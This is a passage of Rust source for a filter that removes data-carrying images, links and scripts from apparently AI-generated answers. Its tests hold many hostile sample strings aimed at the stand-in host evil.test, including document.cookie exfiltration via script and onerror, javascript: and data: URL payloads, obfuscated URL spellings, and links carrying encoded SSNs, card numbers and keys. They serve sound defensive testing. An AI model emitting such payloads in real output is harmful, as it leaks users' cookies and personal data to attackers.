            hex.extend(chars.next());
        }
        if hex.is_empty() {
            match chars.next() {
                Some('\n') | None => {}
                Some(other) => out.push(other),
            }
        } else {
            if chars.peek().is_some_and(|c| c.is_ascii_whitespace()) {
                chars.next();
            }
            let v = u32::from_str_radix(&hex, 16).unwrap_or(0xFFFD);
            out.push(
                char::from_u32(v)
                    .filter(|c| *c != '\0')
                    .unwrap_or('\u{FFFD}'),
            );
        }
    }
    out
}

/// Whether a URL can carry data to its host beyond the bare page address.
fn carries_data(url: &Url) -> bool {
    if url.query().is_some_and(|q| !q.is_empty())
        || url.fragment().is_some_and(|f| !f.is_empty())
        || !url.username().is_empty()
        || url.password().is_some()
    {
        return true;
    }
    let encoded = |s: &str| {
        s.len() >= 24
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'=' | b'%' | b'+'))
    };
    let host_data = url.host_str().is_some_and(|h| {
        let labels: Vec<&str> = h.split('.').collect();
        labels.len() > 2
            && labels[..labels.len() - 2]
                .iter()
                .any(|l| encoded(l) || decodes_to_text(l))
    });
    host_data
        || url
            .path_segments()
            .is_some_and(|mut segs| segs.any(encoded))
}

/// Query and fragment parameter names whose value is never a link's business.
const SENSITIVE_PARAMS: &[&str] = &[
    "password",
    "passwd",
    "pwd",
    "passphrase",
    "secret",
    "client_secret",
    "private_key",
    "api_key",
    "apikey",
    "ssn",
    "cvv",
    "cvc",
    "card_number",
    "cardnumber",
    "creditcard",
    "iban",
    "passport",
];

/// The most a single component of an honest link holds.
const MAX_COMPONENT: usize = 512;

/// Whether a URL carries personal data or secrets: credentials, a value the
/// redactor finds, a component that decodes to text, a sensitive parameter, or more
/// data than a link needs.
fn carries_sensitive(url: &Url) -> bool {
    if !url.username().is_empty() || url.password().is_some() || url.as_str().len() > 4096 {
        return true;
    }
    let mut parts: Vec<String> = Vec::new();
    if let Some(host) = url.host_str() {
        let labels: Vec<&str> = host.split('.').collect();
        let sub = &labels[..labels.len().saturating_sub(2)];
        parts.extend(sub.iter().map(|l| l.to_string()));
        parts.push(sub.concat());
    }
    if let Some(segs) = url.path_segments() {
        let segs: Vec<String> = segs.map(percent_decode).collect();
        parts.push(segs.concat());
        parts.extend(segs);
    }
    let mut values = String::new();
    for q in [url.query(), url.fragment()].into_iter().flatten() {
        for (k, v) in url::form_urlencoded::parse(q.as_bytes()) {
            let key = k.to_ascii_lowercase();
            if SENSITIVE_PARAMS.contains(&key.as_str()) && !v.trim().is_empty() {
                return true;
            }
            values.push_str(&v);
            parts.push(k.into_owned());
            parts.push(v.into_owned());
        }
        // `+` as itself: base64 in a query is not form-encoded.
        for pair in q.split(['&', ';']) {
            if let Some((_, v)) = pair.split_once('=') {
                parts.push(percent_decode(v));
            }
        }
    }
    parts.push(values);
    let redactor = Redactor::new([0; 32]);
    parts
        .iter()
        .any(|p| p.len() > MAX_COMPONENT || decodes_to_text(p) || !redactor.find(p).is_empty())
}

fn percent_decode(s: &str) -> String {
    percent_encoding::percent_decode_str(s)
        .decode_utf8_lossy()
        .into_owned()
}

/// Whether `s` is hex, base64 or base32 of readable text (a random token is not).
fn decodes_to_text(s: &str) -> bool {
    let s = s.trim().trim_end_matches('=');
    if s.len() < 16 {
        return false;
    }
    let mut decoded: Vec<Vec<u8>> = Vec::new();
    if s.len().is_multiple_of(2) && s.bytes().all(|b| b.is_ascii_hexdigit()) {
        decoded.extend(hex::decode(s).ok());
    }
    if s.bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_'))
    {
        use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
        decoded.extend(STANDARD_NO_PAD.decode(s).ok());
        decoded.extend(URL_SAFE_NO_PAD.decode(s).ok());
        decoded.extend(base32_decode(s));
    }
    decoded.iter().any(|b| looks_like_text(b))
}

/// RFC 4648 base32, case-insensitive, unpadded.
fn base32_decode(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() * 5 / 8);
    let mut acc = 0u64;
    let mut bits = 0u32;
    for c in s.bytes() {
        let v = match c.to_ascii_uppercase() {
            c @ b'A'..=b'Z' => c - b'A',
            c @ b'2'..=b'7' => c - b'2' + 26,
            _ => return None,
        };
        acc = (acc << 5) | u64::from(v);
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push(((acc >> bits) & 0xFF) as u8);
        }
    }
    Some(out)
}

fn looks_like_text(bytes: &[u8]) -> bool {
    let Ok(s) = std::str::from_utf8(bytes) else {
        return false;
    };
    let total = s.chars().count();
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
        .count();
    total >= 8 && printable * 10 >= total * 9
}

#[cfg(test)]
mod tests {
    use super::*;

    fn guard() -> ExfilGuard {
        ExfilGuard::allowing(["acme.example"])
    }

    fn answer_guard() -> ExfilGuard {
        guard().with_links(LinkPolicy::KeepUnlessSensitive)
    }

    #[test]
    fn zero_click_image_exfiltration_is_removed() {
        let out = guard()
            .defang("Summary done. ![loading](https://evil.test/pixel.png?d=SSN%20123-45-6789)");
        assert_eq!(
            out.text,
            "Summary done. [image removed: evil.test is not allow-listed]"
        );
        assert_eq!(out.removed.len(), 1);
        assert_eq!(out.removed[0].host, "evil.test");
    }

    #[test]
    fn any_image_from_an_unknown_host_is_removed_allowed_ones_stay() {
        let out = guard()
            .defang("![a](https://cdn.evil.test/a.png) ![b](https://img.acme.example/b.png)");
        assert_eq!(
            out.text,
            "[image removed: cdn.evil.test is not allow-listed] ![b](https://img.acme.example/b.png)"
        );
    }

    #[test]
    fn data_carrying_links_lose_their_url_plain_links_stay() {
        let out = guard().defang(
            "See [the docs](https://docs.rs/regex) or [click](https://evil.test/c?secret=abc) \
             and https://evil.test/x#token=1 and https://www.acme.example/p?q=1",
        );
        assert_eq!(
            out.text,
            "See [the docs](https://docs.rs/regex) or click [link removed: evil.test is not allow-listed] \
             and [link removed: evil.test is not allow-listed] and https://www.acme.example/p?q=1"
        );
        assert_eq!(out.removed.len(), 2);
    }

    #[test]
    fn html_and_reference_forms_are_covered() {
        let out = guard().defang(
            "<img src=\"https://evil.test/i.gif?c=42\"> <a href='https://evil.test/?k=v'>here</a>\n\n[r]: https://evil.test/ref?d=1\n",
        );
        assert!(!out.text.contains("evil.test/"), "{}", out.text);
        assert_eq!(out.removed.len(), 3, "{:?}", out.removed);
        assert!(out.text.contains("here [link removed"), "{}", out.text);
    }

    #[test]
    fn lookalike_hosts_are_not_subdomains() {
        let out = guard().defang("![x](https://evilacme.example/a.png)");
        assert_eq!(out.removed.len(), 1);
    }

    #[test]
    fn encoded_path_segments_count_as_data() {
        let out = guard().defang("[x](https://evil.test/ZXhmaWx0cmF0ZWQgc2VjcmV0IGRhdGE=)");
        assert_eq!(out.removed.len(), 1);
    }

    /// Each form reaches evil.test in a browser or markdown renderer; each is removed,
    /// and the same form pointing at an allowed host or a relative path is kept.
    #[test]
    fn every_spelling_of_a_remote_url_is_resolved_before_its_host_is_judged() {
        // Loaded without a click, or script: removed under every link policy.
        let fetches = [
            "![p](//evil.test/x?d=secret)",
            "![p](https:\\\\evil.test/p.png)",
            "![p](\\\\evil.test/p.png)",
            "![p](/\\evil.test/p.png)",
            "![p](https:/\\evil.test/p.png)",
            "![p](https:evil.test/p.png)",
            "![p](https&#58;//evil.test/p.png)",
            "![p](https&colon;&sol;&sol;evil.test/p.png)",
            "![p](&#x2F;&#x2F;evil.test/p.png)",
            "![p](&#47&#47evil.test/p.png)",
            "![p](&amp;#47;&amp;#47;evil.test/p.png)",
            "![p](ht&#9;tps://evil.test/p.png)",
            "![p](<https://evil.test/a b.png>)",
            "![p](https://evil.test/a(b).png)",
            "![p](https://evil%2Etest/p.png)",
            "![p](https://acme.example@evil.test/p.png)",
            "![p](https://acme.example%40evil.test/p.png)",
            "![p](https://evil\u{3002}test/p.png)",
            "<img src=//evil.test/p.png>",
            "<img src=\"&#47;&#47;evil.test/p.png\">",
            "<img/src=\"//evil.test/p.png\">",
            "<IMG SRC='\\\\evil.test\\p.png'>",
            "<img src=\"ht\ttps://evil.test/p.png\">",
            "<img alt=\"a>b\" src=\"//evil.test/p.png\">",
            "<img srcset=\"/ok.png 1x, //evil.test/p.png?d=1 2x\">",
            "<img srcset=\"/ok.png,//evil.test/p.png\">",
            "<picture><source srcset=\"https://evil.test/p.webp\"></picture>",
            "<div style=\"background:url(//evil.test/p.png)\">x</div>",
            "<div style=\"background:url(&quot;//evil.test/p.png&quot;)\">x</div>",
            "<style>body{background:url('\\2f\\2f evil.test/p.png')}</style>",
            "<style>@import \"//evil.test/s.css\";</style>",
            "<video poster=\"//evil.test/p.png\"></video>",
            "<meta http-equiv=\"refresh\" content=\"0; url=//evil.test/?d=1\">",
            "<base href=\"//evil.test/\">",
            "<svg><image href=\"//evil.test/p.png\"/></svg>",
            "<iframe srcdoc=\"&lt;img src=//evil.test/p.png&gt;\"></iframe>",
            "![p][ref]\n\n[ref]: //evil.test/p.png\n",
            "![ref]\n\n[REF]: <https:\\\\evil.test/p.png>\n",
            "<a href=\"jav&#97;script:alert(1)\">x</a>",
            "<img src=x onerror=\"this.src='//evil.test/?'+document.cookie\">",
            "<script>fetch('//evil.test/?d='+document.cookie)</script>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "[x](jav&#x61;script:alert(document.cookie))",
            "[x](java&#10;script:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](vbscript:msgbox)",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
        ];
        // Links carrying data: removed by the strict policy.
        let links = [
            "[p](//evil.test/x?d=secret)",
            "[p](\\\\evil.test/x?d=secret)",
            "[p](https&#58;//evil.test/x?d=secret)",
            "[![x](https://acme.example/a.png)](//evil.test/?d=42)",
            "[a [nested] label](//evil.test/?d=42)",
            "[p](https://evil.test/a(b)?d=1)",
            "<a href=//evil.test/?d=1>x</a>",
            "[r]: //evil.test/?d=1\n",
            "https&#58;//evil.test/x?d=secret",
            "https:\\\\evil.test/x?d=secret",
            "www.evil.test/x?d=secret",
        ];
        for (attack, fetch) in fetches
            .iter()
            .map(|a| (a, true))
            .chain(links.iter().map(|a| (a, false)))
        {
            let out = guard().defang(attack);
            assert!(!out.removed.is_empty(), "kept: {attack} -> {}", out.text);
            assert!(
                !out.text.contains("evil.test/") && !out.text.contains("script:"),
                "left in: {attack} -> {}",
                out.text
            );
            if fetch {
                let answer = answer_guard().defang(attack);
                assert!(!answer.removed.is_empty(), "{attack}");
            }
            let protocol_relative = ["(", "=", "\"", "'", ","]
                .iter()
                .any(|p| attack.contains(&format!("{p}//evil.test")));
            for honest in [
                attack.replace("evil.test", "cdn.acme.example"),
                if protocol_relative {
                    attack.replace("//evil.test", "/files")
                } else {
                    attack.to_string()
                },
            ] {
                if honest == *attack
                    || ["script", "data:text", "onerror"]
                        .iter()
                        .any(|s| honest.contains(s))
                {
                    continue;
                }
                let kept = guard().defang(&honest);
                assert!(kept.removed.is_empty(), "{honest} -> {:?}", kept.removed);
                assert_eq!(kept.text, honest);
            }
        }
    }

    #[test]
    fn resolution_reads_urls_as_a_browser_does() {
        let host = |raw: &str| {
            resolve(raw).into_iter().find_map(|t| match t {
                Target::Remote { host, .. } => Some(host),
                _ => None,
            })
        };
        assert_eq!(host("//evil.test/x").as_deref(), Some("evil.test"));
        assert_eq!(host("\\\\evil.test").as_deref(), Some("evil.test"));
        assert_eq!(host("https:\\\\evil.test").as_deref(), Some("evil.test"));
        assert_eq!(host("https&#58;//evil.test").as_deref(), Some("evil.test"));
        assert_eq!(host("HTTPS://EVIL.TEST.").as_deref(), Some("evil.test."));
        assert_eq!(host("/relative/path?q=1"), None);
        assert_eq!(host("page.html#top"), None);
        assert_eq!(host("mailto:ana@example.com"), None);
        assert_eq!(
            host("//page-a.invalid/x").as_deref(),
            Some("page-a.invalid")
        );
        assert!(resolve("jav&#97;script:alert(1)").contains(&Target::Script("javascript".into())));
        assert_eq!(resolve("data:image/png;base64,iVBOR"), vec![Target::Local]);
        assert_eq!(
            srcset_urls("a.png 1x, b.png 2x,c.png, data:image/png;base64,AA== 3x"),
            vec!["a.png", "b.png", "c.png", "data:image/png;base64,AA=="]
        );
    }

    /// Honest answers with links the user asked for, and exfiltration attempts: under
    /// the answer policy every honest link survives and every attempt is removed; the
    /// strict policy removes more.
    #[test]
    fn answer_links_are_kept_unless_they_carry_personal_data_or_secrets() {
        let honest = [
            "Here is your reset link: https://accounts.shop.test/reset?token=9f8e7d6c5b4a39281706f5e4d3c2b1a0&uid=48213",
            "[Reset your password](https://id.service.test/password/reset/7Hq2xZ9pLk3mNv8RtY4wBs6D)",
            "Confirm: https://news.site.test/confirm?email_token=Xk29fQ7pLm3Vb8Nw4Rt6Yz1C&list=weekly",
            "Docs: [Regex](https://docs.rs/regex/latest/regex/#syntax)",
            "See https://en.wikipedia.test/wiki/Rust_(programming_language)",
            "Your order: https://shop.test/orders/10482?ref=email",
            "Search: https://search.test/?q=how+to+reset+a+password",
            "Track: https://carrier.test/track?num=1Z999AA10123456784",
            "<a href=\"https://bank.test/verify?code=849201\">Verify</a>",
            "Join: https://meet.test/j/84739201847?pwd_hint=none",
            "Invite: https://team.test/invite/f3b2c1d0-9a8b-4c7d-8e6f-5a4b3c2d1e0f",
            "Unsubscribe: https://mail.test/u?t=AbCdEf0123456789xYz_-AbCdEf0123&c=77",
        ];
        use base64::engine::general_purpose::URL_SAFE_NO_PAD;
        let b64 = URL_SAFE_NO_PAD.encode("SSN 123-45-6789 for Ana Lopez");
        let chunks = URL_SAFE_NO_PAD.encode("SSN 123-45-6789 Ana");
        let b32 = base32_encode(b"secret data here").to_lowercase();
        let attacks = [
            "[click](https://evil.test/c?d=ana.lopez@example.com)".to_string(),
            "https://evil.test/?cc=4111111111111111".into(),
            "https://evil.test/k/AKIAIOSFODNN7EXAMPLE".into(),
            format!("https://evil.test/?d={b64}"),
            format!("https://evil.test/{b64}/p"),
            format!("https://evil.test/?h={}", hex::encode("The user's passwd")),
            "https://evil.test/?d=ana%40example.com".into(),
            "https://evil.test/?password=hunter2".into(),
            "https://ana:hunter2@evil.test/".into(),
            "https://evil.test/c#ssn=123-45-6789".into(),
            format!(
                "https://evil.test/?a={}&b={}&c={}",
                &chunks[..8],
                &chunks[8..16],
                &chunks[16..]
            ),
            "https://evil.test/?iban=DE89370400440532013000".into(),
            "[x](https://evil.test/p/sk-proj-abcdefghijklmnopqrstuvwxyz123456)".into(),
            format!("https://{b32}.evil.test/"),
            "![img](https://evil.test/p.png)".into(),
        ];
        let g = answer_guard();
        let kept = honest
            .iter()
            .filter(|h| {
                let out = g.defang(h);
                assert!(out.removed.is_empty(), "{h}: {:?}", out.removed);
                out.text == **h
            })
            .count();
        let removed = attacks
            .iter()
            .filter(|a| {
                let out = g.defang(a);
                assert!(!out.removed.is_empty(), "kept: {a}");
                !out.text.contains("evil.test/") && out.text != **a
            })
            .count();
        assert_eq!((kept, removed), (honest.len(), attacks.len()));
        // The strict policy (text a tool sends on) removes every data-carrying link.
        let strict_removed = honest
            .iter()
            .filter(|h| !guard().defang(h).removed.is_empty())
            .count();
        assert!(strict_removed >= 8, "{strict_removed}");
    }

    fn base32_encode(data: &[u8]) -> String {
        const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
        let mut out = String::new();
        let (mut acc, mut bits) = (0u32, 0u32);
        for &b in data {
            acc = (acc << 8) | u32::from(b);
            bits += 8;
            while bits >= 5 {
                bits -= 5;
                out.push(ALPHABET[((acc >> bits) & 31) as usize] as char);
            }
        }
        if bits > 0 {
            out.push(ALPHABET[((acc << (5 - bits)) & 31) as usize] as char);
        }
        out
    }

    #[test]
    fn notes_do_not_carry_data_in_the_host() {
        let out = guard()
            .defang("![x](https://www.knrg64tpn5sxe3ldmvzgc5dfmqqg64tbnzsq.evil.test/p.png)");
        assert_eq!(out.text, "[image removed: *.evil.test is not allow-listed]");
        assert_eq!(guard().defang(&out.text).text, out.text);
    }

    mod robustness {
        use super::*;
        use proptest::prelude::*;

        fn pieces() -> impl Strategy<Value = String> {
            let piece = proptest::sample::select(vec![
                "![",
                "[",
                "]",
                "](",
                ")",
                "(",
                "<",
                ">",
                "<img src=",
                "<a href=",
                "</a>",
                " srcset=\"",
                "\"",
                "'",
                "//",
                "\\\\",
                "\\",
                "&#58;",
                "&#x2F;",
                "&amp;",
                "&colon;",
                "https:",
                "http://",
                "www.",
                "evil.test",
                "acme.example",
                "/p.png",
                "?d=",
                "ana@example.com",
                "U1NOIDEyMy00NS02Nzg5",
                "#",
                " ",
                "\n",
                "]: ",
                "url(",
                "<style>",
                "javascript:",
                "é",
                "\u{200b}",
                "%2F",
                "@",
                ":",
                "x",
            ]);
            proptest::collection::vec(piece, 0..24).prop_map(|v| v.concat())
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(512))]

            #[test]
            fn arbitrary_text_never_panics(s in any::<String>()) {
                for t in resolve(&s) {
                    let _ = t;
                }
                let _ = guard().defang(&s);
                let _ = answer_guard().defang(&s);
            }

            #[test]
            fn the_guard_is_idempotent_on_its_output(s in pieces()) {
                for g in [guard(), answer_guard()] {
                    let once = g.defang(&s);
                    let twice = g.defang(&once.text);
                    prop_assert!(twice.removed.is_empty(), "{s:?} -> {:?} -> {:?}", once.text, twice.removed);
                    prop_assert_eq!(&twice.text, &once.text);
                }
            }
        }
    }
}
